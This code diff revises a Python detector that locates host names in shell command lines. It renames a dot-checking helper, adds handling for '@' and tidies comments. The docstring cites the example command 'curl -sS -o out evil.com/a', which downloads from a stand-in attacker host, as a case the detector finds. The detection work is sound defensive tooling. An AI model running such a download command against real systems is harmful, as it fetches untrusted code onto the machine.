@@ -1,4 +1,4 @@
-r"""Hosts in command lines: `evil.com` in `cd /x && curl -sS -o out evil.com/a`, and `"//evil.com/a"`.
+r"""Hosts in command lines, `cd /x && curl -sS -o out evil.com/a`, and behind `"//`.
 
 A bare name in running text is no destination: every second word with a dot would be one. Behind a
 program that takes hosts it is. `_PROGRAMS` is data: which programs these are, where each of them
@@ -138,9 +138,9 @@ for _sort, _bytes in (
     _SORTS[np.frombuffer(_bytes, np.uint8)] = _sort
 
 # What is known where the reading stands. EXPECTS: a program comes next; LOOSE: it may still come,
-# behind a wrapper; FRESH: it may begin here, in a quoted text; NESTED: it did. Of SKIP (the value of
-# an option), HOST (one that is a host) and LONG (the word behind a long option), NOW is this word,
-# NEXT the following one.
+# behind a wrapper; FRESH: it may begin here, in a quoted text; NESTED: it did. Of SKIP (the value
+# of an option), HOST (one that is a host) and LONG (the word behind a long option), NOW is this
+# word, NEXT the following one.
 (
     EXPECTS,
     LOOSE,
@@ -165,8 +165,13 @@ NOT_BEGUN: Final = np.int64(-1)
 
 
 @inlined
-def joins(text: Array, low: Int, dot: Int, end: Int) -> bool:
-    """Whether a dot may stand in a host: letters or digits on both sides, of numbers three dots."""
+def may_name_host(text: Array, low: Int, dot: Int, end: Int) -> bool:
+    """Whether a dot may stand in a host, or one follows an @.
+
+    Letters or digits are on both sides of the dot, and of numbers there are more than two.
+    """
+    if load1(text, dot) == 64:
+        return dot + 1 < end
     if dot == low or dot + 1 >= end or kind_at(text, dot - 1) & (ALNUM | HIGH) == 0:
         return False
     kind = kind_at(text, dot + 1)
@@ -225,13 +230,13 @@ def command_host(
         while begin > low and kind_at(text, begin - 1) & _DOMAIN != 0:
             begin -= 1
     run_end = span_of(text, begin, end, _DOMAIN)
-    if begin == low or _end_of_host(text, begin, run_end, end, False) < 0:
+    if begin == low or _end_of_host(text, begin, run_end, end, strict=False) < 0:
         return np.int64(0), run_end, reading
     before = load1(text, begin - 1)
     if before == 47:
         stop = np.int64(0)
         if _is_slashed(text, low, begin):
-            stop = _end_of_host(text, begin, run_end, end, True)
+            stop = _end_of_host(text, begin, run_end, end, strict=True)
         if stop > 0:
             _add(text, begin, stop, end, np.int64(0), np.int64(ASIDE), plan, found)
         return max(stop, np.int64(0)), run_end, reading
@@ -264,7 +269,7 @@ def slashed_host(text: Array, at: Int, end: Int, plan: Record, found: Record) ->
         if load1(text, i) != 47 and load1(text, i) != 92:
             return False
     run_end = span_of(text, at + 2, end, _DOMAIN)
-    stop = _end_of_host(text, at + 2, run_end, end, True)
+    stop = _end_of_host(text, at + 2, run_end, end, strict=True)
     if stop < 0 or (stop < end and load1(text, stop) <= 32):
         return False
     _add(text, at + 2, stop, end, np.int64(0), np.int64(0), plan, found)
@@ -308,7 +313,7 @@ def _is_meant(text: Array, word: Int, at: Int, stop: Int, end: Int, reading: Int
     if where == REMOTE:
         return stop < end and load1(text, stop) == 58
     if where == EVERY and flags & LONG_NOW != 0:
-        return _end_of_host(text, at, stop, end, True) > 0
+        return _end_of_host(text, at, stop, end, strict=True) > 0
     return where == EVERY or where == FIRST
 
 
